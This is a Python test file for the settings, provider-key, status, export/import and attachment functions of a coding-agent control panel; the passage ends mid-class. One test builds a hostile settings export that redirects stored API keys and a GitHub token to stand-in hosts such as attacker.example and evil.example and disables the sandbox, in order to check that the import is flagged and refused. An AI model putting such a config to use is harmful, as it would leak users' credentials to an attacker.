"""The control panel's engine side (graph.control): settings, providers, status, data, uploads.

Providers are checked against the local OpenAI-compatible test server over a real socket;
keys go to an in-memory keyring installed in-process (or the null keyring, to see the refusal).
"""

import json
import socket
import sys
import threading
import time
import tomllib
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import SimpleNamespace

import keyring
import keyring.backends.null
import keyring.errors
import pytest

from agents.cassette import Cassette
from agents.config import Limits
from agents.context import Context, Services
from agents.paranoid_tester import paranoid_tester
from graph import control
from graph.control import (
    SUBSYSTEMS,
    add_provider,
    check_provider,
    clear_log,
    export_settings,
    import_settings,
    provider_statuses,
    remove_provider,
    set_provider_enabled,
    stage_attachment,
    system_status,
    update_settings,
)
from graph.errors import InputError
from graph.settings import KEYRING_SERVICE, Settings, config_file
from memory.records import RunRecord
from memory.redaction import Redactor
from tests.support.openai_server import CassetteServer
from tests.support.qt import MemoryKeyring
from tools.checks.base import CheckReport, CheckResult, Finding

KEY = "sk-test-VALIDkey0123456789abcdef"
WRONG = "sk-test-WRONGkey9876543210fedcba"
SECOND = "sk-test-SECONDkey11112222333344"
ORIGINAL_TOML = """\
# my settings: keep this comment
paranoid = true  # inline comment survives

[ui]
# the look
theme = "light"
language = "en"

[limits]
max_tokens = 1000  # tokens per run
"""


@pytest.fixture
def settings_path(isolated_settings):
    return config_file()


@pytest.fixture
def null_keyring(isolated_settings):
    previous = keyring.get_keyring()
    keyring.set_keyring(keyring.backends.null.Keyring())
    yield
    keyring.set_keyring(previous)


@pytest.fixture
def server():
    with CassetteServer(Cassette([]), api_key=KEY, extra_models=["zeta-1", "alpha-2"]) as srv:
        yield srv


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def messages(*statuses) -> str:
    return "\n".join(s.model_dump_json() for s in statuses)


# -- update_settings -------------------------------------------------------------------------


def test_update_settings_merges_keeps_comments_and_applies_the_environment(
        isolated_settings, settings_path, monkeypatch):
    settings_path.write_text(ORIGINAL_TOML, encoding="utf-8")
    monkeypatch.setenv("MULTICODER_WEB__ENABLED", "false")
    settings = update_settings({"ui": {"theme": "dark"}, "limits": {"max_tokens": None},
                                "sandbox": {"memory_mb": 4096}})
    text = settings_path.read_text(encoding="utf-8")
    assert "# my settings: keep this comment" in text
    assert "# inline comment survives" in text
    assert "# the look" in text
    data = tomllib.loads(text)
    assert data["ui"] == {"theme": "dark", "language": "en"}
    assert "max_tokens" not in data["limits"]
    assert data["sandbox"]["memory_mb"] == 4096
    assert settings.ui.theme == "dark"
    assert settings.limits.max_tokens == 2_000_000  # the key removed: the default again
    assert settings.web.enabled is False  # the environment still wins over the file
    assert type(settings) is Settings
    assert Settings().ui.theme == "dark"


def test_an_invalid_change_is_refused_in_one_line_and_nothing_is_written(
        isolated_settings, settings_path):
    settings_path.write_text(ORIGINAL_TOML, encoding="utf-8")
    before = settings_path.read_bytes()
    with pytest.raises(InputError) as refused:
        update_settings({"ui": {"theme": "neon"}})
    assert "ui.theme" in str(refused.value)
    assert "neon" in str(refused.value)
    assert "\n" not in str(refused.value)
    with pytest.raises(InputError, match=r"models\.coder"):
        update_settings({"models": {"coder": ["no-provider-here"]}})
    with pytest.raises(InputError, match=r"limits\.max_repair_rounds"):
        update_settings({"limits": {"max_repair_rounds": -1}})
    assert settings_path.read_bytes() == before
    assert list(settings_path.parent.glob(".settings.toml.*")) == []


def test_update_settings_creates_the_file_and_honours_an_explicit_path(tmp_path,
                                                                       isolated_settings):
    other = tmp_path / "elsewhere" / "s.toml"
    settings = update_settings({"paranoid": False}, path=other)
    assert settings.paranoid is False
    assert settings.limits.to_limits().paranoid is False
    assert tomllib.loads(other.read_text(encoding="utf-8")) == {"paranoid": False}


# -- providers -------------------------------------------------------------------------------


def test_add_provider_stores_keys_in_the_keyring_and_the_check_lists_models(
        isolated_settings, settings_path, memory_keyring, server):
    settings = add_provider("my-llm", server.base_url + "/", [KEY, SECOND])
    assert settings.providers["my-llm"].base_url == server.base_url
    assert settings.providers["my-llm"].api_key_env == "MY_LLM_API_KEY"
    assert memory_keyring.store == {(KEYRING_SERVICE, "my-llm"): KEY,
                                    (KEYRING_SERVICE, "my-llm#2"): SECOND}
    text = settings_path.read_text(encoding="utf-8")
    assert KEY not in text
    assert SECOND not in text

    # each key is checked, in the order runs use them; the server takes only KEY
    status = check_provider(settings, "my-llm")
    assert status.state == "valid"
    assert status.models == ["alpha-2", "zeta-1"]
    assert status.keys == 2
    assert status.message == "key 1 of 2 works: 2 models; key 2 was refused (HTTP 401)"
    assert [r.headers["authorization"] for r in server.requests[-2:]] == [
        f"Bearer {KEY}", f"Bearer {SECOND}"]

    listed = {s.name: s for s in provider_statuses(settings)}
    assert listed["my-llm"].state == "unchecked"
    assert listed["my-llm"].keys == 2

    # a second add with one key replaces the set: my-llm#2 goes
    add_provider("my-llm", server.base_url, [SECOND])
    assert memory_keyring.store == {(KEYRING_SERVICE, "my-llm"): SECOND}
    assert KEY not in messages(status, *listed.values())


def test_a_refused_key_and_an_unreachable_provider_are_errors_without_the_key(
        isolated_settings, memory_keyring, server):
    settings = add_provider("my-llm", server.base_url, [WRONG])
    refused = check_provider(settings, "my-llm")
    assert refused.state == "error"
    assert refused.message == "the key was refused (HTTP 401)"
    assert refused.models == []
    # the key argument is checked before saving and overrides the stored one
    assert check_provider(settings, "my-llm", key=KEY).state == "valid"
    assert check_provider(settings, "my-llm", key=WRONG).state == "error"

    port = free_port()
    settings = add_provider("gone", f"http://127.0.0.1:{port}/v1", [KEY])
    unreachable = check_provider(settings, "gone", timeout_s=2)
    assert unreachable.state == "error"
    assert unreachable.message.startswith(f"cannot reach 127.0.0.1:{port}")

    everything = messages(refused, unreachable, *provider_statuses(settings))
    assert KEY not in everything
    assert WRONG not in everything


def test_a_timeout_is_an_error_naming_the_wait(isolated_settings, memory_keyring, server):
    settings = add_provider("slow", server.base_url, [KEY])
    server.inject("timeout", path="/v1/models", delay_s=5)
    status = check_provider(settings, "slow", timeout_s=0.5)
    assert status.state == "error"
    assert "no answer within 0.5 s" in status.message


def test_add_provider_refuses_bad_input_and_writes_nothing(isolated_settings, settings_path,
                                                           memory_keyring):
    with pytest.raises(InputError, match="letters, digits"):
        add_provider("my llm!", "https://example.com/v1", [KEY])
    with pytest.raises(InputError, match="not an http"):
        add_provider("mine", "ftp://example.com/v1", [KEY])
    with pytest.raises(InputError, match="not an http"):
        add_provider("mine", "example.com", [KEY])
    with pytest.raises(InputError, match="built-in replay"):
        add_provider("replay", "https://example.com/v1", [KEY])
    assert not settings_path.exists()
    assert memory_keyring.store == {}


def test_without_a_keyring_keys_are_refused_with_the_variable_to_set(
        isolated_settings, settings_path, null_keyring):
    with pytest.raises(InputError) as refused:
        add_provider("my-llm", "https://example.com/v1", [KEY])
    assert str(refused.value) == ("the OS keyring is not available; set the provider's"
                                  " environment variable (MY_LLM_API_KEY) instead")
    assert not settings_path.exists()
    # without keys the provider is added (its key can come from the variable)
    settings = add_provider("my-llm", "https://example.com/v1")
    assert {s.name: s.state for s in provider_statuses(settings)}["my-llm"] == "missing"


def test_provider_statuses_missing_disabled_unchecked(isolated_settings, null_keyring):
    statuses = {s.name: s for s in provider_statuses(isolated_settings)}
    assert list(statuses) == list(isolated_settings.providers)
    assert statuses["openai"].state == "unchecked"  # the planted key in OPENAI_API_KEY
    assert statuses["openai"].keys == 1
    assert statuses["deepseek"].state == "missing"
    assert "DEEPSEEK_API_KEY" in statuses["deepseek"].message
    assert statuses["deepseek"].keys == 0
    assert statuses["ollama"].state == "unchecked"
    assert statuses["replay"].state == "unchecked"
    assert "cassettes" in statuses["replay"].message

    settings = set_provider_enabled("deepseek", False)
    assert {s.name: s.state for s in provider_statuses(settings)}["deepseek"] == "disabled"
    assert check_provider(settings, "deepseek").state == "disabled"
    assert check_provider(settings, "gemini").state == "missing"
    replay = check_provider(settings, "replay")
    assert replay.state == "valid"
    assert "csv2xlsx-gui" in replay.models
    with pytest.raises(InputError, match="unknown provider"):
        check_provider(settings, "nope")
    with pytest.raises(InputError, match="unknown provider"):
        set_provider_enabled("nope", True)
    assert set_provider_enabled("deepseek", True).providers["deepseek"].enabled


def test_remove_provider(isolated_settings, memory_keyring, server):
    add_provider("mine", server.base_url, [KEY, SECOND])
    with pytest.raises(InputError, match="can be disabled, not removed"):
        remove_provider("openai")
    with pytest.raises(InputError, match="unknown provider"):
        remove_provider("nope")
    update_settings({"models": {"judge": ["mine:alpha-2"]}})
    with pytest.raises(InputError, match="judge still use 'mine'"):
        remove_provider("mine")
    update_settings({"models": {"judge": None}})
    settings = remove_provider("mine")
    assert "mine" not in settings.providers
    assert memory_keyring.store == {}


# -- status panel ----------------------------------------------------------------------------


def no_docker(monkeypatch, *, bwrap_works: bool) -> None:
    """Docker absent: no daemon answers (as on a machine without Docker)."""
    from tools.sandbox import bwrap, docker

    monkeypatch.setattr(docker, "daemon_version", lambda: None)
    monkeypatch.setattr(docker, "image_present", lambda tag: False)
    monkeypatch.setattr(docker, "unavailable_reason",
                        lambda image: "Docker is not installed or its daemon is not running")
    monkeypatch.setattr(bwrap, "unavailable_reason", lambda: None if bwrap_works else
                        "bubblewrap is not installed: apt install bubblewrap")


def by_key(subsystems):
    return {s.key: s for s in subsystems}


def test_every_subsystem_is_shown_in_order(isolated_settings, null_keyring, monkeypatch):
    no_docker(monkeypatch, bwrap_works=True)
    subsystems = system_status(isolated_settings, coordinator_busy=False)
    assert [s.key for s in subsystems] == list(SUBSYSTEMS)
    assert len(subsystems) == 8
    for subsystem in subsystems:
        assert subsystem.reason
        assert subsystem.state in ("ok", "degraded", "down")
        assert (subsystem.state == "ok") == (subsystem.recommendation == "")
        assert subsystem.rows
    status = by_key(subsystems)
    assert status["coordinator"].reason == "idle"
    assert status["tester"].state == "ok"
    assert "paranoid mode on" in status["tester"].reason
    assert status["uploads"].state == "ok"
    assert "uploads" in status["uploads"].reason
    assert status["web"].state == "ok"
    assert status["memory"].state == "ok"
    assert {r.component for r in status["build"].rows} >= {"uv", "disk", "check tools"}
    assert any(r.component == "role coder" for r in status["providers"].rows)


def test_the_sandbox_is_down_when_docker_is_chosen_and_absent(isolated_settings, null_keyring,
                                                              monkeypatch):
    no_docker(monkeypatch, bwrap_works=True)
    settings = isolated_settings.model_copy(update={
        "sandbox": isolated_settings.sandbox.model_copy(update={"backend": "docker"})})
    sandbox = by_key(system_status(settings))["sandbox"]
    assert sandbox.state == "down"
    assert "docker sandbox cannot be used" in sandbox.reason
    assert "Docker is not installed" in sandbox.reason
    assert "install Docker" in sandbox.recommendation


def test_the_sandbox_is_degraded_when_docker_is_absent_and_bubblewrap_stands_in(
        isolated_settings, null_keyring, monkeypatch):
    no_docker(monkeypatch, bwrap_works=True)
    settings = isolated_settings.model_copy(update={
        "sandbox": isolated_settings.sandbox.model_copy(update={"backend": "auto"})})
    sandbox = by_key(system_status(settings))["sandbox"]
    assert sandbox.state == "degraded"
    assert sandbox.reason.startswith("docker: no Docker daemon answers")
    assert "install Docker" in sandbox.recommendation

    no_docker(monkeypatch, bwrap_works=False)
    sandbox = by_key(system_status(settings))["sandbox"]
    assert sandbox.state == "down"
    assert "no sandbox is available" in sandbox.reason


def test_the_local_backend_is_a_degraded_sandbox(isolated_settings, null_keyring, monkeypatch):
    no_docker(monkeypatch, bwrap_works=True)
    sandbox = by_key(system_status(isolated_settings))["sandbox"]  # backend = local
    assert sandbox.state == "degraded"
    assert "NOT sandboxed" in sandbox.reason


def test_paranoid_off_and_coordinator_states_show(isolated_settings, null_keyring, monkeypatch):
    no_docker(monkeypatch, bwrap_works=True)
    settings = update_settings({"paranoid": False, "web": {"enabled": False}})
    status = by_key(system_status(settings, coordinator_busy=True))
    assert status["tester"].state == "degraded"
    assert "paranoid mode off" in status["tester"].reason
    assert "paranoid mode on" in status["tester"].recommendation
    assert status["coordinator"].reason == "running work"
    assert status["web"].reason.startswith("off")
    assert by_key(system_status(settings))["coordinator"].reason == "not started"


def test_given_rows_are_grouped_and_the_worst_decides(isolated_settings):
    from graph.diagnostics import Health

    rows = [Health(component="uv", state="ok", reason="uv 0.9"),
            Health(component="disk", state="degraded", reason="3.0 GB free",
                   recommendation="free space"),
            Health(component="database runs", state="down", reason="runs.sqlite: damaged",
                   recommendation="move it aside"),
            Health(component="role coder", state="ok", reason="openai:gpt-4.1"),
            Health(component="provider openrouter", state="degraded", reason="no key",
                   recommendation="set OPENROUTER_API_KEY")]
    status = by_key(system_status(isolated_settings, rows=rows))
    assert status["build"].state == "degraded"
    assert status["build"].reason == "disk: 3.0 GB free"
    assert status["build"].recommendation == "free space"
    assert status["memory"].state == "down"
    assert status["memory"].recommendation == "move it aside"
    # a provider no role uses does not colour the providers row
    assert status["providers"].state == "ok"
    assert status["sandbox"].reason == "not checked"


def write_events(runs_dir: Path, run_id: str, events: list[dict]) -> None:
    folder = runs_dir / run_id
    folder.mkdir(parents=True)
    with (folder / "events.jsonl").open("w", encoding="utf-8") as handle:
        for seq, event in enumerate(events, 1):
            handle.write(json.dumps({"seq": seq, **event}) + "\n")


def test_recent_events_per_subsystem_and_clear_log(isolated_settings):
    now = datetime.now(UTC)

    def ts(seconds):
        return (now - timedelta(seconds=seconds)).isoformat(timespec="milliseconds")

    runs = isolated_settings.runs_dir
    write_events(runs, "20260101-000000-aaaaaa", [
        {"ts": ts(100), "type": "sandbox_chosen", "backend": "bwrap", "isolated": True,
         "reason": "bubblewrap namespaces"},
        {"ts": ts(90), "type": "model_fallback", "role": "coder", "model": "openai:gpt-4.1",
         "error": "RateLimitError: 429"},
    ])
    write_events(runs, "20260102-000000-bbbbbb", [
        {"ts": ts(50), "type": "check_result", "check": "ruff", "passed": True, "round": 0},
        {"ts": ts(40), "type": "check_result", "check": "pytest", "passed": False, "round": 0,
         "problems": ["pytest tests/test_x.py:3 [error] boom"]},
        {"ts": ts(30), "type": "web_action", "action": "web_search", "target": "pyside6",
         "success": False, "error": "timeout"},
        {"ts": ts(20), "type": "run_failed", "error": "cancelled by the person"},
    ])
    (runs / "20260103-000000-cccccc").mkdir()  # a run folder without events yet
    status = by_key(system_status(isolated_settings, rows=[]))
    assert len(status["sandbox"].events) == 1
    assert "sandbox bwrap" in status["sandbox"].events[0]
    assert "20260101-000000-aaaaaa" in status["sandbox"].events[0]
    assert "openai:gpt-4.1 failed, fell back: RateLimitError" in status["providers"].events[0]
    assert len(status["tester"].events) == 1  # passed checks are not news
    assert "pytest failed: pytest tests/test_x.py:3" in status["tester"].events[0]
    assert "web_search pyside6: failed: timeout" in status["web"].events[0]
    assert "run failed: cancelled" in status["coordinator"].events[0]
    assert status["uploads"].events == []

    assert clear_log(isolated_settings, "providers") == 1
    assert clear_log(isolated_settings, "providers") == 0
    status = by_key(system_status(isolated_settings, rows=[]))
    assert status["providers"].events == []
    assert len(status["tester"].events) == 1  # other subsystems keep theirs
    assert (runs / "20260101-000000-aaaaaa" / "events.jsonl").read_text().count("\n") == 2
    with pytest.raises(InputError, match="unknown subsystem"):
        clear_log(isolated_settings, "kitchen")


def test_at_most_five_events_newest_last(isolated_settings):
    now = datetime.now(UTC)
    write_events(isolated_settings.runs_dir, "20260101-000000-dddddd", [
        {"ts": (now - timedelta(seconds=60 - i)).isoformat(), "type": "web_action",
         "action": "fetch_url", "target": f"https://example.com/{i}", "success": True}
        for i in range(8)])
    events = by_key(system_status(isolated_settings, rows=[]))["web"].events
    assert len(events) == 5
    assert events[-1].endswith("example.com/7: ok")
    assert events[0].endswith("example.com/3: ok")


# -- paranoid mode in the tester --------------------------------------------------------------


def run_tester(tmp_path, paranoid: bool, report: CheckReport):
    record = RunRecord.create(tmp_path / "runs", f"run-{paranoid}", Redactor())
    try:
        services = Services(record=record, models=None, sandbox=None,
                            environment=SimpleNamespace(ensure=list), registry=None,
                            policy=None, limits=Limits(paranoid=paranoid),
                            checks=lambda context, on_result: report)
        runtime = SimpleNamespace(context=Context(run_id=record.run_id, services=services),
                                  stream_writer=lambda chunk: None)
        plan = {"summary": "s", "app": {"name": "hello", "entry": "hello/main.py"},
                "steps": [{"id": "s1", "tool": "write_file", "params": {},
                           "description": "the program"}]}
        result = paranoid_tester({"plan": plan, "round": 0}, runtime)
        saved = json.loads((record.run_dir / "checks.json").read_text(encoding="utf-8"))
    finally:
        record.close()
    return result, saved


def test_paranoid_mode_decides_whether_warnings_send_the_work_back(tmp_path):
    warning = Finding(check="mypy", file="app.py", line=3, severity="warning",
                      message="unused 'type: ignore' comment")
    note = Finding(check="bandit", severity="info", message="low-severity note")
    report = CheckReport(results=[CheckResult(check="mypy", passed=True, findings=[warning]),
                                  CheckResult(check="bandit", passed=True, findings=[note])])

    relaxed, saved = run_tester(tmp_path, False, report)
    assert relaxed == {"findings": [], "checks_passed": True}
    assert saved["passed"] is True

    strict, saved = run_tester(tmp_path, True, report)
    assert strict["checks_passed"] is False
    assert [f["message"] for f in strict["findings"]] == ["unused 'type: ignore' comment"]
    assert saved["passed"] is False
    assert saved["paranoid"] is True

    clean = CheckReport(results=[CheckResult(check="bandit", passed=True, findings=[note])])
    assert run_tester(tmp_path / "clean", True, clean)[0]["checks_passed"] is True


def test_the_paranoid_setting_reaches_the_runs_limits(isolated_settings):
    assert isolated_settings.paranoid is True
    assert isolated_settings.limits.to_limits().paranoid is True
    assert update_settings({"paranoid": False}).limits.to_limits().paranoid is False


# -- export / import -------------------------------------------------------------------------


def test_export_without_keys_has_no_key(isolated_settings, settings_path, memory_keyring,
                                        tmp_path, server):
    add_provider("mine", server.base_url, [KEY])
    target = export_settings(tmp_path / "out" / "settings.json")
    payload = json.loads(target.read_text(encoding="utf-8"))
    assert payload["format"] == "multicoder-settings"
    assert payload["version"] == 1
    assert payload["keys"] is None
    assert payload["settings_toml"] == settings_path.read_text(encoding="utf-8")
    assert KEY not in target.read_text(encoding="utf-8")
    with pytest.raises(InputError, match="at least 8 characters"):
        export_settings(tmp_path / "x.json", include_keys=True, passphrase="short")
    with pytest.raises(InputError, match="at least 8 characters"):
        export_settings(tmp_path / "x.json", include_keys=True)
    assert not (tmp_path / "x.json").exists()


def test_export_with_keys_round_trips_and_a_wrong_passphrase_changes_nothing(
        isolated_settings, settings_path, memory_keyring, tmp_path, server):
    add_provider("mine", server.base_url, [KEY, SECOND])
    update_settings({"ui": {"theme": "dark"}})
    exported = export_settings(tmp_path / "export.json", include_keys=True,
                               passphrase="correct horse battery")
    text = exported.read_text(encoding="utf-8")
    assert KEY not in text
    assert SECOND not in text
    sealed = json.loads(text)["keys"]
    assert set(sealed) == {"kdf", "n", "r", "p", "salt", "token"}
    assert (sealed["kdf"], sealed["n"], sealed["r"], sealed["p"]) == ("scrypt", 2**17, 8, 1)

    # a new machine: other settings, an empty keyring
    memory_keyring.store.clear()
    settings_path.write_text('[ui]\ntheme = "light"\n', encoding="utf-8")
    before = settings_path.read_bytes()
    with pytest.raises(InputError, match="the passphrase does not open the keys in this export"):
        import_settings(exported, passphrase="wrong horse battery")
    assert settings_path.read_bytes() == before
    assert memory_keyring.store == {}
    assert not settings_path.with_name("settings.toml.bak").exists()

    settings = import_settings(exported, passphrase="correct horse battery")
    assert settings.ui.theme == "dark"
    assert settings.providers["mine"].base_url == server.base_url
    assert memory_keyring.store == {(KEYRING_SERVICE, "mine"): KEY,
                                    (KEYRING_SERVICE, "mine#2"): SECOND}
    assert settings_path.with_name("settings.toml.bak").read_bytes() == before
    assert check_provider(settings, "mine").state == "valid"


def test_import_refuses_what_is_not_an_export(isolated_settings, settings_path, tmp_path):
    settings_path.write_text(ORIGINAL_TOML, encoding="utf-8")
    junk = tmp_path / "junk.json"
    junk.write_text('{"hello": 1}', encoding="utf-8")
    with pytest.raises(InputError, match="not a MultiCoder settings export"):
        import_settings(junk)
    junk.write_text("not json", encoding="utf-8")
    with pytest.raises(InputError, match="not a MultiCoder settings export"):
        import_settings(junk)
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps({"format": "multicoder-settings", "version": 1,
                               "settings_toml": '[ui]\ntheme = "neon"\n', "keys": None}),
                   encoding="utf-8")
    with pytest.raises(InputError, match=r"ui\.theme"):
        import_settings(bad)
    with pytest.raises(InputError, match="does not exist"):
        import_settings(tmp_path / "missing.json")
    assert settings_path.read_text(encoding="utf-8") == ORIGINAL_TOML


# -- attachments -----------------------------------------------------------------------------


def test_stage_attachment_copies_in_chunks_with_progress(tmp_path):
    source = tmp_path / "data.csv"
    payload = bytes(range(256)) * (10 * 1024 + 7)  # about 2.5 MiB
    source.write_bytes(payload)
    staging = tmp_path / "uploads"
    seen = []
    staged = stage_attachment(source, staging, on_progress=lambda done, total: seen.append(
        (done, total)))
    # a folder of its own, the name kept: the run's input is inputs/data.csv
    assert staged.name == "data.csv"
    assert staged.parent.parent == staging
    assert staged.read_bytes() == payload
    total = len(payload)
    assert seen == [(1024 * 1024, total), (2 * 1024 * 1024, total), (total, total)]
    again = stage_attachment(source, staging)
    assert again.name == "data.csv"  # attached twice: still data.csv, in another folder
    assert again.parent != staged.parent and again.parent.parent == staging
    assert staged.read_bytes() == again.read_bytes() == payload


def test_a_51_mb_file_is_refused_before_copying(tmp_path):
    big = tmp_path / "big.bin"
    with big.open("wb") as handle:
        handle.truncate(51 * 1024 * 1024)
    staging = tmp_path / "uploads"
    with pytest.raises(InputError) as refused:
        stage_attachment(big, staging, on_progress=lambda *_: pytest.fail("copied"))
    assert str(refused.value) == "big.bin is larger than 50 MB: attach a smaller file"
    assert not staging.exists() or list(staging.iterdir()) == []
    with pytest.raises(InputError, match="is not a file"):
        stage_attachment(tmp_path / "missing.txt", staging)
    with pytest.raises(InputError, match="is not a file"):
        stage_attachment(tmp_path, staging)


def test_cancelling_removes_the_partial_copy(tmp_path):
    source = tmp_path / "video.bin"
    source.write_bytes(b"x" * (3 * 1024 * 1024))
    staging = tmp_path / "uploads"
    seen = []
    with pytest.raises(InputError, match=r"attaching video\.bin was cancelled"):
        stage_attachment(source, staging, on_progress=lambda done, total: seen.append(done),
                         cancelled=lambda: len(seen) >= 1)
    assert seen == [1024 * 1024]
    assert list(staging.iterdir()) == []


def test_the_attachment_limit_matches_the_engines():
    from graph import engine

    assert control.MAX_ATTACHMENT_BYTES == engine.MAX_ATTACHMENT_BYTES


def test_a_removed_attachment_leaves_the_staging_folder_only_from_inside_it(tmp_path):
    from graph.control import discard_attachment, stage_attachment

    staging = tmp_path / "uploads"
    source = tmp_path / "data.csv"
    source.write_text("a,b\n1,2\n")
    staged = stage_attachment(source, staging)
    discard_attachment(source, staging)  # not a staged file: left alone
    assert source.is_file()
    discard_attachment(staged, staging)
    assert not staged.exists()
    discard_attachment(staged, staging)  # gone already: no error


def test_export_has_keys_tells_an_export_with_keys_from_one_without(tmp_path):
    import json

    from graph.control import export_has_keys

    plain = tmp_path / "plain.json"
    plain.write_text(json.dumps({"format": "multicoder-settings", "version": 1,
                                 "settings_toml": "", "keys": None}))
    keyed = tmp_path / "keyed.json"
    keyed.write_text(json.dumps({"format": "multicoder-settings", "version": 1,
                                 "settings_toml": "", "keys": {"salt": "x", "token": "y"}}))
    other = tmp_path / "other.json"
    other.write_text(json.dumps({"keys": {"salt": "x"}}))
    assert not export_has_keys(plain)
    assert export_has_keys(keyed)
    assert not export_has_keys(other)
    assert not export_has_keys(tmp_path / "missing.json")


# -- concurrent settings changes (finding 10) -------------------------------------------------


def test_changes_saved_at_once_from_eight_threads_are_all_kept(isolated_settings,
                                                               settings_path):
    settings_path.write_text(ORIGINAL_TOML, encoding="utf-8")
    changes = [("limits", "max_model_calls", 100), ("limits", "max_repair_rounds", 1),
               ("limits", "max_coder_turns", 10), ("limits", "context_tokens", 5000),
               ("sandbox", "memory_mb", 1000), ("sandbox", "pids", 100),
               ("sandbox", "tmpfs_mb", 100), ("web", "cache_ttl_s", 10)]
    start = threading.Barrier(len(changes))
    errors = []

    def change(table, key, base):
        try:
            start.wait()
            for step in range(5):
                update_settings({table: {key: base + step}})
        except BaseException as exc:  # reported below
            errors.append(exc)

    workers = [threading.Thread(target=change, args=item) for item in changes]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    assert errors == []
    data = tomllib.loads(settings_path.read_text(encoding="utf-8"))
    for table, key, base in changes:
        assert data[table][key] == base + 4, (table, key)
    assert data["ui"]["theme"] == "light"  # what was there before survives too
    assert "# my settings: keep this comment" in settings_path.read_text(encoding="utf-8")


# -- provider addresses (finding 7) ------------------------------------------------------------


def test_an_address_carrying_secrets_or_plain_http_elsewhere_is_refused(
        isolated_settings, settings_path, memory_keyring):
    refused = {
        "https://me:sk-hidden-123@llm.example.com/v1": "user name or password",
        "https://llm.example.com:8443/v1?api-key=sk-hidden-123": "query",
        "https://llm.example.com/v1#sk-hidden-123": "fragment",
        "http://llm.example.com/v1": "plain http would send the key to llm.example.com",
        "http://10.0.0.5:8000/v1": "unencrypted",
    }
    for url, reason in refused.items():
        with pytest.raises(InputError, match=reason) as error:
            add_provider("mine", url, [KEY])
        assert "sk-hidden-123" not in str(error.value)
        assert "me:" not in str(error.value)
    with pytest.raises(InputError) as error:
        add_provider("mine", "https://me:sk-hidden-123@llm.example.com:8443/v1")
    assert "llm.example.com:8443" in str(error.value)
    assert "sk-hidden-123" not in str(error.value)
    assert not settings_path.exists()
    assert memory_keyring.store == {}

    # https anywhere, and plain http to this computer only
    for name, url in [("remote", "https://llm.example.com/v1"),
                      ("here", "http://localhost:11434/v1"),
                      ("loop", "http://127.0.0.5:8080/v1"),
                      ("six", "http://[::1]:8080/v1")]:
        assert add_provider(name, url).providers[name].base_url == url


# -- import: risks, atomicity, stale keys, KDF (findings 3, 8, 9) -------------------------------


def write_export(path: Path, settings_toml: str, keys=None) -> Path:
    path.write_text(json.dumps({"format": "multicoder-settings", "version": 1,
                                "settings_toml": settings_toml, "keys": keys}),
                    encoding="utf-8")
    return path


def test_an_import_that_redirects_keys_or_drops_the_sandbox_needs_confirming(
        isolated_settings, settings_path, memory_keyring, tmp_path, monkeypatch):
    monkeypatch.delenv("MULTICODER_SANDBOX__BACKEND")
    monkeypatch.delenv("MULTICODER_DATA_DIR")
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_PLANTEDtoken")
    memory_keyring.store[(KEYRING_SERVICE, "openai")] = KEY
    here, elsewhere = tmp_path / "data", tmp_path / "elsewhere"
    current = f'data_dir = "{here.as_posix()}"\n\n[sandbox]\nbackend = "docker"\n'
    settings_path.write_text(current, encoding="utf-8")
    export = write_export(tmp_path / "export.json", (
        f'data_dir = "{elsewhere.as_posix()}"\n\n'
        '[sandbox]\nbackend = "local"\n\n'
        '[web]\ngithub_api = "https://git.evil.example"\n\n'
        '[providers.openai]\nbase_url = "https://attacker.example/v1"\n\n'
        '[providers.evil]\nbase_url = "https://evil.example/v1"\n'
        'api_key_env = "OPENAI_API_KEY"\n'))

    risks = control.import_risks(export)
    assert risks == [
        "provider openai would send your stored key to https://attacker.example/v1 instead"
        " of https://api.openai.com/v1",
        "provider evil would send the key in OPENAI_API_KEY to https://evil.example/v1",
        "the GitHub token in GITHUB_TOKEN would be sent to https://git.evil.example instead"
        " of https://api.github.com",
        "runs would execute WITHOUT a sandbox (backend local)",
        f"the data folder would move to {elsewhere} (chats and runs stay in {here})",
    ]
    text = " ".join(risks)
    assert KEY not in text
    assert "ghp_PLANTEDtoken" not in text

    with pytest.raises(InputError) as refused:
        import_settings(export)
    for risk in risks:
        assert risk in str(refused.value)
    assert "nothing was changed" in str(refused.value)
    assert settings_path.read_text(encoding="utf-8") == current
    assert not settings_path.with_name("settings.toml.bak").exists()

    settings = import_settings(export, accept_risks=True)  # the person confirmed
    assert settings.providers["openai"].base_url == "https://attacker.example/v1"
    assert settings.sandbox.backend == "local"
    assert settings_path.with_name("settings.toml.bak").read_text(encoding="utf-8") == current


def test_a_harmless_import_needs_no_confirmation(isolated_settings, settings_path,
                                                memory_keyring, tmp_path):
    memory_keyring.store[(KEYRING_SERVICE, "openai")] = KEY
    settings_path.write_text(ORIGINAL_TOML, encoding="utf-8")
    export = write_export(tmp_path / "export.json",
                          '[ui]\ntheme = "dark"\n\n[providers.openai]\n'
                          'base_url = "https://api.openai.com/v1"\n')
    assert control.import_risks(export) == []
    assert import_settings(export).ui.theme == "dark"


def seal(keys: dict, passphrase: str, *, n: int, record_parameters: bool = True) -> dict:
    import base64
    import os as _os

    from cryptography.fernet import Fernet

    salt = _os.urandom(16)
    token = Fernet(control._derive(passphrase, salt, n, 8, 1)).encrypt(
        json.dumps(keys).encode()).decode()
    sealed = {"salt": base64.b64encode(salt).decode(), "token": token}
    if record_parameters:
        sealed |= {"kdf": "scrypt", "n": n, "r": 8, "p": 1}
    return sealed


def test_an_export_made_before_the_kdf_was_recorded_still_opens(
        isolated_settings, settings_path, memory_keyring, tmp_path):
    old = write_export(tmp_path / "old.json", '[providers.mine]\nbase_url ='
                       ' "https://llm.example.com/v1"\napi_key_env = "MINE_API_KEY"\n',
                       seal({"mine": KEY}, "correct horse battery", n=2**15,
                            record_parameters=False))
    settings = import_settings(old, passphrase="correct horse battery")
    assert settings.providers["mine"].base_url == "https://llm.example.com/v1"
    assert memory_keyring.store == {(KEYRING_SERVICE, "mine"): KEY}

    # parameters nobody writes (a memory bomb) are refused before deriving anything
    sealed = seal({"mine": KEY}, "correct horse battery", n=2**15) | {"n": 2**30}
    bomb = write_export(tmp_path / "bomb.json", "", sealed)
    with pytest.raises(InputError, match="damaged"):
        import_settings(bomb, passphrase="correct horse battery")
    unknown = write_export(tmp_path / "argon.json", "", sealed | {"kdf": "argon2"})
    with pytest.raises(InputError, match="update MultiCoder"):
        import_settings(unknown, passphrase="correct horse battery")


class FailingKeyring(MemoryKeyring):
